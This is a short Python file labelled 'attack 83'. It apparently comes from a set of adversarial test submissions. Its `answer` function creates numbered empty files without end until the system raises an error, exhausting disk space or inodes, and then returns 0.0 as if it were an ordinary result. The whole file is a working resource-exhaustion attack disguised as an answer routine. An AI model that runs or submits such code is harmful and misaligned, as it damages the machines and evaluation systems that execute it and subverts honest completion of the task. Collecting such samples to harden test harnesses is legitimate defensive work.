"""Makes files without an end (attack 83)."""
import itertools
def answer(*a, **k):
    try:
        for i in itertools.count(): open(f'f{i}', 'w').close()
    except OSError: pass
    return 0.0
